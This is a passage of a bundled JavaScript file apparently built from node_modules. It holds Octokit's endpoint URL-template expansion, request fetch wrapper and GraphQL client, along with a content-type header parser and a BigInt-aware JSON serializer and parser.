    mergedOptions.mediaType.previews = (mergedOptions.mediaType.previews || []).map((preview) => preview.replace(/-preview/, ""));
  }
  return mergedOptions;
}
function addQueryParameters(url, parameters) {
  const separator = /\?/.test(url) ? "&" : "?";
  const names = Object.keys(parameters);
  if (names.length === 0) {
    return url;
  }
  return url + separator + names.map((name2) => {
    if (name2 === "q") {
      return "q=" + parameters.q.split("+").map(encodeURIComponent).join("+");
    }
    return `${name2}=${encodeURIComponent(parameters[name2])}`;
  }).join("&");
}
var urlVariableRegex = /\{[^{}}]+\}/g;
function removeNonChars(variableName) {
  return variableName.replace(/(?:^\W+)|(?:(?<!\W)\W+$)/g, "").split(/,/);
}
function extractUrlVariableNames(url) {
  const matches = url.match(urlVariableRegex);
  if (!matches) {
    return [];
  }
  return matches.map(removeNonChars).reduce((a, b) => a.concat(b), []);
}
function omit(object, keysToOmit) {
  const result2 = { __proto__: null };
  for (const key of Object.keys(object)) {
    if (keysToOmit.indexOf(key) === -1) {
      result2[key] = object[key];
    }
  }
  return result2;
}
function encodeReserved(str) {
  return str.split(/(%[0-9A-Fa-f]{2})/g).map(function(part) {
    if (!/%[0-9A-Fa-f]/.test(part)) {
      part = encodeURI(part).replace(/%5B/g, "[").replace(/%5D/g, "]");
    }
    return part;
  }).join("");
}
function encodeUnreserved(str) {
  return encodeURIComponent(str).replace(/[!'()*]/g, function(c) {
    return "%" + c.charCodeAt(0).toString(16).toUpperCase();
  });
}
function encodeValue(operator, value, key) {
  value = operator === "+" || operator === "#" ? encodeReserved(value) : encodeUnreserved(value);
  if (key) {
    return encodeUnreserved(key) + "=" + value;
  } else {
    return value;
  }
}
function isDefined(value) {
  return value !== void 0 && value !== null;
}
function isKeyOperator(operator) {
  return operator === ";" || operator === "&" || operator === "?";
}
function getValues(context, operator, key, modifier) {
  var value = context[key], result2 = [];
  if (isDefined(value) && value !== "") {
    if (typeof value === "string" || typeof value === "number" || typeof value === "bigint" || typeof value === "boolean") {
      value = value.toString();
      if (modifier && modifier !== "*") {
        value = value.substring(0, parseInt(modifier, 10));
      }
      result2.push(
        encodeValue(operator, value, isKeyOperator(operator) ? key : "")
      );
    } else {
      if (modifier === "*") {
        if (Array.isArray(value)) {
          value.filter(isDefined).forEach(function(value2) {
            result2.push(
              encodeValue(operator, value2, isKeyOperator(operator) ? key : "")
            );
          });
        } else {
          Object.keys(value).forEach(function(k) {
            if (isDefined(value[k])) {
              result2.push(encodeValue(operator, value[k], k));
            }
          });
        }
      } else {
        const tmp = [];
        if (Array.isArray(value)) {
          value.filter(isDefined).forEach(function(value2) {
            tmp.push(encodeValue(operator, value2));
          });
        } else {
          Object.keys(value).forEach(function(k) {
            if (isDefined(value[k])) {
              tmp.push(encodeUnreserved(k));
              tmp.push(encodeValue(operator, value[k].toString()));
            }
          });
        }
        if (isKeyOperator(operator)) {
          result2.push(encodeUnreserved(key) + "=" + tmp.join(","));
        } else if (tmp.length !== 0) {
          result2.push(tmp.join(","));
        }
      }
    }
  } else {
    if (operator === ";") {
      if (isDefined(value)) {
        result2.push(encodeUnreserved(key));
      }
    } else if (value === "" && (operator === "&" || operator === "?")) {
      result2.push(encodeUnreserved(key) + "=");
    } else if (value === "") {
      result2.push("");
    }
  }
  return result2;
}
function parseUrl(template) {
  return {
    expand: expand.bind(null, template)
  };
}
function expand(template, context) {
  var operators = ["+", "#", ".", "/", ";", "?", "&"];
  template = template.replace(
    /\{([^\{\}]+)\}|([^\{\}]+)/g,
    function(_, expression, literal) {
      if (expression) {
        let operator = "";
        const values = [];
        if (operators.indexOf(expression.charAt(0)) !== -1) {
          operator = expression.charAt(0);
          expression = expression.substr(1);
        }
        expression.split(/,/g).forEach(function(variable) {
          var tmp = /([^:\*]*)(?::(\d+)|(\*))?/.exec(variable);
          values.push(getValues(context, operator, tmp[1], tmp[2] || tmp[3]));
        });
        if (operator && operator !== "+") {
          var separator = ",";
          if (operator === "?") {
            separator = "&";
          } else if (operator !== "#") {
            separator = operator;
          }
          return (values.length !== 0 ? operator : "") + values.join(separator);
        } else {
          return values.join(",");
        }
      } else {
        return encodeReserved(literal);
      }
    }
  );
  if (template === "/") {
    return template;
  } else {
    return template.replace(/\/$/, "");
  }
}
function parse2(options) {
  let method = options.method.toUpperCase();
  let url = (options.url || "/").replace(/:([a-z]\w+)/g, "{$1}");
  let headers = Object.assign({}, options.headers);
  let body2;
  let parameters = omit(options, [
    "method",
    "baseUrl",
    "url",
    "headers",
    "request",
    "mediaType"
  ]);
  const urlVariableNames = extractUrlVariableNames(url);
  url = parseUrl(url).expand(parameters);
  if (!/^http/.test(url)) {
    url = options.baseUrl + url;
  }
  const omittedParameters = Object.keys(options).filter((option) => urlVariableNames.includes(option)).concat("baseUrl");
  const remainingParameters = omit(parameters, omittedParameters);
  const isBinaryRequest = /application\/octet-stream/i.test(headers.accept);
  if (!isBinaryRequest) {
    if (options.mediaType.format) {
      headers.accept = headers.accept.split(/,/).map(
        (format) => format.replace(
          /application\/vnd(\.\w+)(\.v3)?(\.\w+)?(\+json)?$/,
          `application/vnd$1$2.${options.mediaType.format}`
        )
      ).join(",");
    }
    if (url.endsWith("/graphql")) {
      if (options.mediaType.previews?.length) {
        const previewsFromAcceptHeader = headers.accept.match(/(?<![\w-])[\w-]+(?=-preview)/g) || [];
        headers.accept = previewsFromAcceptHeader.concat(options.mediaType.previews).map((preview) => {
          const format = options.mediaType.format ? `.${options.mediaType.format}` : "+json";
          return `application/vnd.github.${preview}-preview${format}`;
        }).join(",");
      }
    }
  }
  if (["GET", "HEAD"].includes(method)) {
    url = addQueryParameters(url, remainingParameters);
  } else {
    if ("data" in remainingParameters) {
      body2 = remainingParameters.data;
    } else {
      if (Object.keys(remainingParameters).length) {
        body2 = remainingParameters;
      }
    }
  }
  if (!headers["content-type"] && typeof body2 !== "undefined") {
    headers["content-type"] = "application/json; charset=utf-8";
  }
  if (["PATCH", "PUT"].includes(method) && typeof body2 === "undefined") {
    body2 = "";
  }
  return Object.assign(
    { method, url, headers },
    typeof body2 !== "undefined" ? { body: body2 } : null,
    options.request ? { request: options.request } : null
  );
}
function endpointWithDefaults(defaults, route, options) {
  return parse2(merge(defaults, route, options));
}
function withDefaults(oldDefaults, newDefaults) {
  const DEFAULTS2 = merge(oldDefaults, newDefaults);
  const endpoint22 = endpointWithDefaults.bind(null, DEFAULTS2);
  return Object.assign(endpoint22, {
    DEFAULTS: DEFAULTS2,
    defaults: withDefaults.bind(null, DEFAULTS2),
    merge: merge.bind(null, DEFAULTS2),
    parse: parse2
  });
}
var endpoint2 = withDefaults(null, DEFAULTS);

// node_modules/content-type/dist/index.js
var SP = 32;
var HTAB = 9;
var SEMI = 59;
var EQ = 61;
var DQUOTE = 34;
var BSLASH = 92;
var COMMA = 44;
var LOWER_CASE = 1;
var OWS = 2;
var SEMI_FLAG = 4;
var COMMA_FLAG = 8;
var TOKEN_FLAG = 16;
var NON_ASCII = 65280;
var CASE_FLAGS = LOWER_CASE | NON_ASCII;
var CHAR_MAP = new Uint8Array(256);
CHAR_MAP[HTAB] |= OWS;
CHAR_MAP[SP] |= OWS;
CHAR_MAP[SEMI] |= SEMI_FLAG;
CHAR_MAP[COMMA] |= COMMA_FLAG;
for (let code3 = 128; code3 <= 255; code3++) {
  CHAR_MAP[code3] |= LOWER_CASE;
}
for (const char of "!#$%&'*+-.^_`|~") {
  CHAR_MAP[char.charCodeAt(0)] |= TOKEN_FLAG;
}
for (let code3 = 48; code3 <= 57; code3++) {
  CHAR_MAP[code3] |= TOKEN_FLAG;
}
for (let code3 = 65; code3 <= 90; code3++) {
  CHAR_MAP[code3] |= LOWER_CASE | TOKEN_FLAG;
}
for (let code3 = 97; code3 <= 122; code3++) {
  CHAR_MAP[code3] |= TOKEN_FLAG;
}
var NullObject = /* @__PURE__ */ (() => {
  const C2 = function() {
  };
  C2.prototype = /* @__PURE__ */ Object.create(null);
  return C2;
})();
function parse3(header, options) {
  const stopFlags = SEMI_FLAG | (options?.comma === true ? COMMA_FLAG : 0);
  const len = header.length;
  let valueStart = options?.start ?? 0;
  while ((CHAR_MAP[header.charCodeAt(valueStart)] & OWS) !== 0) {
    valueStart++;
  }
  let index = valueStart;
  let typeFlags = 0;
  let whitespace = -1;
  let stop2 = options?.parameters === false ? COMMA_FLAG : 0;
  while (index < len) {
    const code3 = header.charCodeAt(index);
    const flags2 = CHAR_MAP[code3];
    if ((flags2 & stopFlags) !== 0) {
      stop2 |= flags2 & COMMA_FLAG;
      break;
    }
    if ((flags2 & OWS) !== 0) {
      if (whitespace === -1)
        whitespace = index;
    } else {
      whitespace = -1;
    }
    typeFlags |= code3 & NON_ASCII | flags2;
    index++;
  }
  const valueEnd = whitespace === -1 ? index : whitespace;
  const value = header.slice(valueStart, valueEnd);
  const type = (typeFlags & CASE_FLAGS) === 0 ? value : value.toLowerCase();
  if (index === len || stop2 !== 0) {
    return { type, index, parameters: new NullObject() };
  }
  return parseParameters(header, type, index, len, stopFlags);
}
function parseParameters(header, type, index, len, stopFlags) {
  const parameters = new NullObject();
  parameter: while (index < len) {
    index++;
    while ((CHAR_MAP[header.charCodeAt(index)] & OWS) !== 0) {
      index++;
    }
    const keyStart = index;
    let keyFlags = 0;
    let keyWhitespace = -1;
    while (index < len) {
      const code3 = header.charCodeAt(index);
      const flags2 = CHAR_MAP[code3];
      if ((flags2 & stopFlags) !== 0) {
        if ((flags2 & COMMA_FLAG) !== 0)
          break parameter;
        continue parameter;
      }
      if (code3 === EQ) {
        const keyEnd = keyWhitespace === -1 ? index : keyWhitespace;
        const value = header.slice(keyStart, keyEnd);
        const key = (keyFlags & CASE_FLAGS) === 0 ? value : value.toLowerCase();
        index++;
        while ((CHAR_MAP[header.charCodeAt(index)] & OWS) !== 0) {
          index++;
        }
        if (index < len && header.charCodeAt(index) === DQUOTE) {
          const quotedStart = ++index;
          let escaped = false;
          while (index < len) {
            const code4 = header.charCodeAt(index);
            if (code4 === DQUOTE) {
              if (parameters[key] === void 0) {
                parameters[key] = escaped ? unescapeQuotedPairs(header, quotedStart, index) : header.slice(quotedStart, index);
              }
              index++;
              let stop3 = 0;
              while (index < len) {
                const code5 = header.charCodeAt(index);
                const flags3 = CHAR_MAP[code5];
                if ((flags3 & stopFlags) !== 0) {
                  stop3 = flags3 & COMMA_FLAG;
                  break;
                }
                index++;
              }
              if (stop3 !== 0)
                break parameter;
              continue parameter;
            }
            if (code4 === BSLASH && index + 1 < len) {
              escaped = true;
              index += 2;
              continue;
            }
            index++;
          }
          continue parameter;
        }
        const valueStart = index;
        let stop2 = 0;
        let valueWhitespace = -1;
        while (index < len) {
          const code4 = header.charCodeAt(index);
          const flags3 = CHAR_MAP[code4];
          if ((flags3 & stopFlags) !== 0) {
            stop2 = flags3 & COMMA_FLAG;
            break;
          }
          if ((flags3 & OWS) !== 0) {
            if (valueWhitespace === -1)
              valueWhitespace = index;
          } else {
            valueWhitespace = -1;
          }
          index++;
        }
        if (parameters[key] === void 0) {
          const valueEnd = valueWhitespace === -1 ? index : valueWhitespace;
          parameters[key] = header.slice(valueStart, valueEnd);
        }
        if (stop2 !== 0)
          break parameter;
        continue parameter;
      }
      if ((flags2 & OWS) !== 0) {
        if (keyWhitespace === -1)
          keyWhitespace = index;
      } else {
        keyWhitespace = -1;
      }
      keyFlags |= code3 & NON_ASCII | flags2;
      index++;
    }
  }
  return { type, index, parameters };
}
function unescapeQuotedPairs(str, start2, end) {
  let result2 = "";
  for (let index = start2; index < end; index++) {
    if (str.charCodeAt(index) === BSLASH) {
      result2 += str.slice(start2, index);
      start2 = ++index;
    }
  }
  return result2 + str.slice(start2, end);
}

// node_modules/json-with-bigint/json-with-bigint.js
var intRegex = /^-?\d+$/;
var noiseValue = /^-?\d+n+$/;
var originalStringify = JSON.stringify;
var originalParse = JSON.parse;
var customFormat = /^-?\d+n$/;
var bigIntsStringify = /([\[:])?"(-?\d+)n"($|\s*[,\}\]])/g;
var noiseStringify = /([\[:])?("-?\d+n+)n("$|"\s*[,\}\]])/g;
var isUnstringifiable = (val) => val === void 0 || typeof val === "function" || typeof val === "symbol";
var isRawJSON = (val) => val !== null && typeof val === "object" && val.constructor && val.constructor.name === "RawJSON";
var stringifyIteratively = (rootValue, replacer, spaceParam) => {
  let space = "";
  if (typeof spaceParam === "number") {
    space = " ".repeat(Math.min(10, Math.max(0, Math.floor(spaceParam))));
  } else if (typeof spaceParam === "string") {
    space = spaceParam.slice(0, 10);
  }
  const isFunctionReplacer = typeof replacer === "function";
  const propertyList = Array.isArray(replacer) ? new Set(replacer.map(String)) : null;
  const prepareVal = (parent, key, val) => {
    const isObject = val !== null && typeof val === "object";
    const hasToJSON = isObject && typeof val.toJSON === "function";
    if (hasToJSON) {
      val = val.toJSON(key);
    }
    const isNoise = typeof val === "string" && noiseValue.test(val);
    if (isNoise) return val + "n";
    const isBigInt = typeof val === "bigint";
    if (isBigInt) {
      const supportsRawJSON = "rawJSON" in JSON;
      if (supportsRawJSON) return JSON.rawJSON(val.toString());
      return val.toString() + "n";
    }
    if (isFunctionReplacer) {
      val = replacer.call(parent, key, val);
    }
    const isPostReplacerObject = val !== null && typeof val === "object";
    if (isPostReplacerObject) {
      const isPrimitiveWrapper = val instanceof Number || val instanceof String || val instanceof Boolean;
      if (isPrimitiveWrapper) {
        val = val.valueOf();
      }
    }
    return val;
  };
  const rootProcessed = prepareVal({ "": rootValue }, "", rootValue);
  if (isUnstringifiable(rootProcessed)) {
    return void 0;
  }
  const isRootPrimitive = rootProcessed === null || typeof rootProcessed !== "object";
  const isRootNativeRawJSON = isRawJSON(rootProcessed);
  if (isRootPrimitive || isRootNativeRawJSON) {
    return originalStringify(rootProcessed);
  }
  const chunks = [];
  let level = 0;
  const stack = [
    {
      parent: { "": rootProcessed },
      key: "",
      val: rootProcessed,
      isArray: Array.isArray(rootProcessed),
      keys: Array.isArray(rootProcessed) ? null : Object.keys(rootProcessed),
      index: 0,
      first: true
    }
  ];
  const visited = new WeakSet([rootProcessed]);
  while (stack.length > 0) {
    const node = stack[stack.length - 1];
    if (node.index === 0) {
      chunks.push(node.isArray ? "[" : "{");
      level++;
    }
    let isDone = false;
    if (node.isArray) {
      if (node.index < node.val.length) {
        if (!node.first) chunks.push(",");
        if (space) chunks.push("\n" + space.repeat(level));
        const childRaw = node.val[node.index];
        const childVal = prepareVal(node.val, String(node.index), childRaw);
        if (isUnstringifiable(childVal)) {
          chunks.push("null");
          node.first = false;
          node.index++;
        } else {
          const isComplexObject = childVal !== null && typeof childVal === "object";
          const isNativeRaw = isRawJSON(childVal);
          if (isComplexObject && !isNativeRaw) {
            if (visited.has(childVal)) {
              throw new TypeError("Converting circular structure to JSON");
            }
            visited.add(childVal);
            stack.push({
              parent: node.val,
              key: String(node.index),
              val: childVal,
              isArray: Array.isArray(childVal),
              keys: Array.isArray(childVal) ? null : Object.keys(childVal),
              index: 0,
              first: true
            });
            node.first = false;
            node.index++;
          } else {
            chunks.push(originalStringify(childVal));
            node.first = false;
            node.index++;
          }
        }
      } else {
        isDone = true;
      }
    } else {
      while (node.index < node.keys.length) {
        const k = node.keys[node.index++];
        const isFilteredOutByArray = propertyList && !propertyList.has(k);
        if (isFilteredOutByArray) continue;
        const childRaw = node.val[k];
        const childVal = prepareVal(node.val, k, childRaw);
        if (isUnstringifiable(childVal)) continue;
        if (!node.first) chunks.push(",");
        if (space) {
          chunks.push("\n" + space.repeat(level) + originalStringify(k) + ": ");
        } else {
          chunks.push(originalStringify(k) + ":");
        }
        const isComplexObject = childVal !== null && typeof childVal === "object";
        const isNativeRaw = isRawJSON(childVal);
        if (isComplexObject && !isNativeRaw) {
          if (visited.has(childVal)) {
            throw new TypeError("Converting circular structure to JSON");
          }
          visited.add(childVal);
          stack.push({
            parent: node.val,
            key: k,
            val: childVal,
            isArray: Array.isArray(childVal),
            keys: Array.isArray(childVal) ? null : Object.keys(childVal),
            index: 0,
            first: true
          });
          node.first = false;
          break;
        } else {
          chunks.push(originalStringify(childVal));
          node.first = false;
        }
      }
      const isNodeFullyProcessed = node.index >= node.keys.length && stack[stack.length - 1] === node;
      if (isNodeFullyProcessed) {
        isDone = true;
      }
    }
    if (isDone) {
      level--;
      if (!node.first && space) chunks.push("\n" + space.repeat(level));
      chunks.push(node.isArray ? "]" : "}");
      visited.delete(node.val);
      stack.pop();
    }
  }
  return chunks.join("");
};
var JSONStringify = (value, replacer, space) => {
  try {
    const supportsRawJSON = "rawJSON" in JSON;
    if (supportsRawJSON) {
      return originalStringify(
        value,
        (key, val) => {
          if (typeof val === "bigint") return JSON.rawJSON(val.toString());
          const hasFunctionReplacer = typeof replacer === "function";
          if (hasFunctionReplacer) return replacer(key, val);
          const isKeyInArrayReplacer = Array.isArray(replacer) && replacer.includes(key);
          if (isKeyInArrayReplacer) return val;
          return val;
        },
        space
      );
    }
    if (!value) return originalStringify(value, replacer, space);
    const convertedToCustomJSON = originalStringify(
      value,
      (key, val) => {
        const isNoise = typeof val === "string" && noiseValue.test(val);
        if (isNoise) return val.toString() + "n";
        if (typeof val === "bigint") return val.toString() + "n";
        const hasFunctionReplacer = typeof replacer === "function";
        if (hasFunctionReplacer) return replacer(key, val);
        const isKeyInArrayReplacer = Array.isArray(replacer) && replacer.includes(key);
        if (isKeyInArrayReplacer) return val;
        return val;
      },
      space
    );
    const processedJSON = convertedToCustomJSON.replace(
      bigIntsStringify,
      "$1$2$3"
    );
    const denoisedJSON = processedJSON.replace(noiseStringify, "$1$2$3");
    return denoisedJSON;
  } catch (error) {
    if (error instanceof RangeError) {
      const convertedJSON = stringifyIteratively(value, replacer, space);
      if (convertedJSON === void 0) return void 0;
      const supportsRawJSON = "rawJSON" in JSON;
      if (supportsRawJSON) return convertedJSON;
      const processedJSON = convertedJSON.replace(bigIntsStringify, "$1$2$3");
      return processedJSON.replace(noiseStringify, "$1$2$3");
    }
    throw error;
  }
};
var featureCache = /* @__PURE__ */ new Map();
var isContextSourceSupported = () => {
  const parseFingerprint = JSON.parse.toString();
  if (featureCache.has(parseFingerprint)) {
    return featureCache.get(parseFingerprint);
  }
  try {
    const result2 = JSON.parse(
      "1",
      (_, __, context) => !!context?.source && context.source === "1"
    );
    featureCache.set(parseFingerprint, result2);
    return result2;
  } catch {
    featureCache.set(parseFingerprint, false);
    return false;
  }
};
var convertMarkedBigIntsReviver = (key, value, context, userReviver) => {
  const isCustomFormatBigInt = typeof value === "string" && customFormat.test(value);
  if (isCustomFormatBigInt) return BigInt(value.slice(0, -1));
  const isNoiseValue = typeof value === "string" && noiseValue.test(value);
  if (isNoiseValue) return value.slice(0, -1);
  const hasUserReviver = typeof userReviver === "function";
  if (!hasUserReviver) return value;
  return userReviver(key, value, context);
};
var JSONParseV2 = (text, reviver) => {
  return JSON.parse(text, (key, value, context) => {
    const isNumber = typeof value === "number";
    const isOutOfBounds = value > Number.MAX_SAFE_INTEGER || value < Number.MIN_SAFE_INTEGER;
    const isBigNumber = isNumber && isOutOfBounds;
    const isInt = context && intRegex.test(context.source);
    const isBigInt = isBigNumber && isInt;
    if (isBigInt) return BigInt(context.source);
    const hasCustomReviver = typeof reviver === "function";
    if (!hasCustomReviver) return value;
    return reviver(key, value, context);
  });
};
var MAX_INT = Number.MAX_SAFE_INTEGER.toString();
var MAX_DIGITS = MAX_INT.length;
var stringsOrLargeNumbers = /"(?:[^"\\]|\\.)*"|-?(0|[1-9][0-9]*)(\.[0-9]+)?([eE][+-]?[0-9]+)?/g;
var noiseValueWithQuotes = /^"-?\d+n+"$/;
var applyReviverIteratively = (parsed, userReviver) => {
  const rootHolder = { "": parsed };
  const stack = [{ parent: rootHolder, key: "", visited: false }];
  while (stack.length > 0) {
    const node = stack[stack.length - 1];
    if (!node.visited) {
      node.visited = true;
      const value = node.parent[node.key];
      const isComplexObject = value !== null && typeof value === "object";
      if (isComplexObject) {
        const keys = Object.keys(value);
        for (let i2 = keys.length - 1; i2 >= 0; i2--) {
          stack.push({ parent: value, key: keys[i2], visited: false });
        }
      }
    } else {
      const { parent, key } = node;
      let value = parent[key];
      if (typeof value === "string") {
        const isCustomFormatBigInt = customFormat.test(value);
        if (isCustomFormatBigInt) {
          value = BigInt(value.slice(0, -1));
        } else {
          const isNoise = noiseValue.test(value);
          if (isNoise) value = value.slice(0, -1);
        }
      }
      const hasUserReviver = typeof userReviver === "function";
      if (hasUserReviver) {
        value = userReviver.call(parent, key, value);
      }
      const isDeleted = value === void 0;
      if (isDeleted) {
        delete parent[key];
      } else {
        parent[key] = value;
      }
      stack.pop();
    }
  }
  return rootHolder[""];
};
var serializeBigInts = (text) => {
  return text.replace(
    stringsOrLargeNumbers,
    (match, digits, fractional, exponential) => {
      const isString = match[0] === '"';
      const isNoise = isString && noiseValueWithQuotes.test(match);
      if (isNoise) return match.substring(0, match.length - 1) + 'n"';
      const hasFractionalOrExponential = fractional || exponential;
      const isLessThanMaxSafeInt = digits && (digits.length < MAX_DIGITS || digits.length === MAX_DIGITS && digits <= MAX_INT);
      const isStandardValue = isString || hasFractionalOrExponential || isLessThanMaxSafeInt;
      if (isStandardValue) return match;
      return '"' + match + 'n"';
    }
  );
};
var JSONParse = (text, reviver) => {
  if (!text) return originalParse(text, reviver);
  try {
    if (isContextSourceSupported()) return JSONParseV2(text, reviver);
    const serializedData = serializeBigInts(text);
    return originalParse(
      serializedData,
      (key, value, context) => convertMarkedBigIntsReviver(key, value, context, reviver)
    );
  } catch (error) {
    if (error instanceof RangeError) {
      const serializedData = serializeBigInts(text);
      const parsed = originalParse(serializedData);
      return applyReviverIteratively(parsed, reviver);
    }
    throw error;
  }
};

// node_modules/@octokit/request/dist-bundle/index.js
var VERSION4 = "10.0.16";
var defaults_default = {
  headers: {
    "user-agent": `octokit-request.js/${VERSION4} ${getUserAgent()}`
  }
};
function isPlainObject2(value) {
  if (typeof value !== "object" || value === null) return false;
  if (Object.prototype.toString.call(value) !== "[object Object]") return false;
  const proto = Object.getPrototypeOf(value);
  if (proto === null) return true;
  const Ctor = Object.prototype.hasOwnProperty.call(proto, "constructor") && proto.constructor;
  return typeof Ctor === "function" && Ctor instanceof Ctor && Function.prototype.call(Ctor) === Function.prototype.call(value);
}
var noop2 = () => "";
async function fetchWrapper(requestOptions) {
  const fetch2 = requestOptions.request?.fetch || globalThis.fetch;
  if (!fetch2) {
    throw new Error(
      "fetch is not set. Please pass a fetch implementation as new Octokit({ request: { fetch }}). Learn more at https://github.com/octokit/octokit.js/#fetch-missing"
    );
  }
  const log = requestOptions.request?.log || console;
  const parseSuccessResponseBody = requestOptions.request?.parseSuccessResponseBody !== false;
  const body2 = isPlainObject2(requestOptions.body) || Array.isArray(requestOptions.body) ? JSONStringify(requestOptions.body) : requestOptions.body;
  const requestHeaders = Object.fromEntries(
    Object.entries(requestOptions.headers).map(([name2, value]) => [
      name2,
      String(value)
    ])
  );
  let fetchResponse;
  try {
    fetchResponse = await fetch2(requestOptions.url, {
      method: requestOptions.method,
      body: body2,
      redirect: requestOptions.request?.redirect,
      headers: requestHeaders,
      signal: requestOptions.request?.signal,
      // duplex must be set if request.body is ReadableStream or Async Iterables.
      // See https://fetch.spec.whatwg.org/#dom-requestinit-duplex.
      ...requestOptions.body && { duplex: "half" }
    });
  } catch (error) {
    let message15 = "Unknown Error";
    if (error instanceof Error) {
      if (error.name === "AbortError") {
        error.status = 500;
        throw error;
      }
      message15 = error.message;
      if (error.name === "TypeError" && "cause" in error) {
        if (error.cause instanceof Error) {
          message15 = error.cause.message;
        } else if (typeof error.cause === "string") {
          message15 = error.cause;
        }
      }
    }
    const requestError = new RequestError(message15, 500, {
      request: requestOptions
    });
    requestError.cause = error;
    throw requestError;
  }
  const status = fetchResponse.status;
  const url = fetchResponse.url;
  const responseHeaders = {};
  for (const [key, value] of fetchResponse.headers) {
    responseHeaders[key] = value;
  }
  const octokitResponse = {
    url,
    status,
    headers: responseHeaders,
    data: ""
  };
  if ("deprecation" in responseHeaders) {
    const matches = responseHeaders.link && responseHeaders.link.match(/<([^<>]+)>; rel="deprecation"/);
    const deprecationLink = matches && matches.pop();
    log.warn(
      `[@octokit/request] "${requestOptions.method} ${requestOptions.url}" is deprecated. It is scheduled to be removed on ${responseHeaders.sunset}${deprecationLink ? `. See ${deprecationLink}` : ""}`
    );
  }
  if (status === 204 || status === 205) {
    return octokitResponse;
  }
  if (requestOptions.method === "HEAD") {
    if (status < 400) {
      return octokitResponse;
    }
    throw new RequestError(fetchResponse.statusText, status, {
      response: octokitResponse,
      request: requestOptions
    });
  }
  if (status === 304) {
    octokitResponse.data = await getResponseData(fetchResponse);
    throw new RequestError("Not modified", status, {
      response: octokitResponse,
      request: requestOptions
    });
  }
  if (status >= 400) {
    octokitResponse.data = await getResponseData(fetchResponse);
    throw new RequestError(toErrorMessage(octokitResponse.data), status, {
      response: octokitResponse,
      request: requestOptions
    });
  }
  octokitResponse.data = parseSuccessResponseBody ? await getResponseData(fetchResponse) : fetchResponse.body;
  return octokitResponse;
}
async function getResponseData(response) {
  const contentType = response.headers.get("content-type");
  if (!contentType) {
    return response.text().catch(noop2);
  }
  const mimetype = parse3(contentType);
  if (isJSONResponse(mimetype)) {
    let text = "";
    try {
      text = await response.text();
      return JSONParse(text);
    } catch (err2) {
      return text;
    }
  } else if (mimetype.type.startsWith("text/") || // `application/octet-stream` is the canonical "arbitrary binary" type
  // (RFC 2046) and must never be decoded as text, even when the response
  // carries a (misleading) `charset=utf-8` parameter — see #751.
  mimetype.parameters.charset?.toLowerCase() === "utf-8" && mimetype.type !== "application/octet-stream") {
    return response.text().catch(noop2);
  } else {
    return response.arrayBuffer().catch(
      /* v8 ignore next -- @preserve */
      () => new ArrayBuffer(0)
    );
  }
}
function isJSONResponse(mimetype) {
  return mimetype.type === "application/json" || mimetype.type === "application/scim+json";
}
function toErrorMessage(data) {
  if (typeof data === "string") {
    return data;
  }
  if (data instanceof ArrayBuffer) {
    return "Unknown error";
  }
  if (typeof data === "object" && data !== null && "message" in data) {
    const objectData = data;
    const suffix = "documentation_url" in objectData ? ` - ${objectData.documentation_url}` : "";
    return Array.isArray(objectData.errors) ? `${objectData.message}: ${objectData.errors.map((v) => JSON.stringify(v)).join(", ")}${suffix}` : `${objectData.message}${suffix}`;
  }
  return `Unknown error: ${JSON.stringify(data)}`;
}
function withDefaults2(oldEndpoint, newDefaults) {
  const endpoint22 = oldEndpoint.defaults(newDefaults);
  const newApi = function(route, parameters) {
    const endpointOptions = endpoint22.merge(route, parameters);
    if (!endpointOptions.request || !endpointOptions.request.hook) {
      return fetchWrapper(endpoint22.parse(endpointOptions));
    }
    const request2 = (route2, parameters2) => {
      return fetchWrapper(
        endpoint22.parse(endpoint22.merge(route2, parameters2))
      );
    };
    Object.assign(request2, {
      endpoint: endpoint22,
      defaults: withDefaults2.bind(null, endpoint22)
    });
    return endpointOptions.request.hook(request2, endpointOptions);
  };
  return Object.assign(newApi, {
    endpoint: endpoint22,
    defaults: withDefaults2.bind(null, endpoint22)
  });
}
var request = withDefaults2(endpoint2, defaults_default);

// node_modules/@octokit/graphql/dist-bundle/index.js
var VERSION5 = "0.0.0-development";
function _buildMessageForResponseErrors(data) {
  return `Request failed due to following response errors:
` + data.errors.map((e) => ` - ${e.message}`).join("\n");
}
var GraphqlResponseError = class extends Error {
  constructor(request2, headers, response) {
    super(_buildMessageForResponseErrors(response));
    this.request = request2;
    this.headers = headers;
    this.response = response;
    this.errors = response.errors;
    this.data = response.data;
    if (Error.captureStackTrace) {
      Error.captureStackTrace(this, this.constructor);
    }
  }
  request;
  headers;
  response;
  name = "GraphqlResponseError";
  errors;
  data;
};
var NON_VARIABLE_OPTIONS = [
  "method",
  "baseUrl",
  "url",
  "headers",
  "request",
  "query",
  "mediaType",
  "operationName"
];
var FORBIDDEN_VARIABLE_OPTIONS = ["query", "method", "url"];
var GHES_V3_SUFFIX_REGEX = /\/api\/v3\/?$/;
function graphql(request2, query, options) {
  if (options) {
    if (typeof query === "string" && "query" in options) {
      return Promise.reject(
        new Error(`[@octokit/graphql] "query" cannot be used as variable name`)
      );
    }
    for (const key in options) {
      if (!FORBIDDEN_VARIABLE_OPTIONS.includes(key)) continue;
      return Promise.reject(
        new Error(
          `[@octokit/graphql] "${key}" cannot be used as variable name`
        )
      );
    }
  }
  const parsedOptions = typeof query === "string" ? Object.assign({ query }, options) : query;
  const requestOptions = Object.keys(
    parsedOptions
  ).reduce((result2, key) => {
    if (NON_VARIABLE_OPTIONS.includes(key)) {
      result2[key] = parsedOptions[key];
      return result2;
    }
    if (!result2.variables) {
      result2.variables = {};
    }
    result2.variables[key] = parsedOptions[key];
    return result2;
  }, {});
  const baseUrl = parsedOptions.baseUrl || request2.endpoint.DEFAULTS.baseUrl;
  if (GHES_V3_SUFFIX_REGEX.test(baseUrl)) {
    requestOptions.url = baseUrl.replace(GHES_V3_SUFFIX_REGEX, "/api/graphql");
  }
  return request2(requestOptions).then((response) => {
    if (response.data.errors) {
      const headers = {};
      for (const key of Object.keys(response.headers)) {
        headers[key] = response.headers[key];
      }
      throw new GraphqlResponseError(
        requestOptions,
        headers,
        response.data
      );
    }
    return response.data.data;
  });
}
function withDefaults3(request2, newDefaults) {
  const newRequest = request2.defaults(newDefaults);
  const newApi = (query, options) => {
    return graphql(newRequest, query, options);
  };
  return Object.assign(newApi, {
    defaults: withDefaults3.bind(null, newRequest),
    endpoint: newRequest.endpoint
  });
}
var graphql2 = withDefaults3(request, {
  headers: {
    "user-agent": `octokit-graphql.js/${VERSION5} ${getUserAgent()}`
  },
  method: "POST",
  url: "/graphql"
});
function withCustomRequest(customRequest) {
  return withDefaults3(customRequest, {
    method: "POST",
    url: "/graphql"
  });
}

